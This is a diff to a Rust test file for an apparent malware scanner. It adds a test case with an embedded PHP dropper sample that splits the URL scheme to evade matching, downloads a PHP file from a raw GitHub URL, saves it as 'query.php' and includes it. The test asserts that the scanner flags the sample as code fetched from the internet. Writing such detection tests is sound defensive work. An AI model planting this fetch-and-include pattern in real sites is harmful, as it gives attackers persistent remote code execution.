@@ -571,6 +571,11 @@ fn a_shell_fetched_from_a_code_host_and_written_is_a_dropper() {
         "https://pastebin.com/raw/Ab12Cd34",
     );
     assert_eq!(found(&paste), [Why::CodeFromInternet]);
+    // fresh116's reinfector: the scheme joined on in pieces, the shell saved and included.
+    let pieces = "<?php $s = 'htt' . 'ps://'; $url = $s . 'raw.githubusercontent.com/a/b/refs/heads/main/m.php';\n\
+                  function dl($u, $f) { $c = @file_get_contents($u); @file_put_contents($f, $c); }\n\
+                  dl($url, 'query.php'); include 'query.php';";
+    assert_eq!(found(pieces), [Why::CodeFromInternet]);
     // Near-misses: a stub generator fetching files it names by a variable, a plugin reading
     // a changelog from GitHub, and a shell's address fetched to be shown, not written.
     let stubs = planter.replace("refs/heads/main/pica2.php'", "develop/' . $name . '.stub.php'");
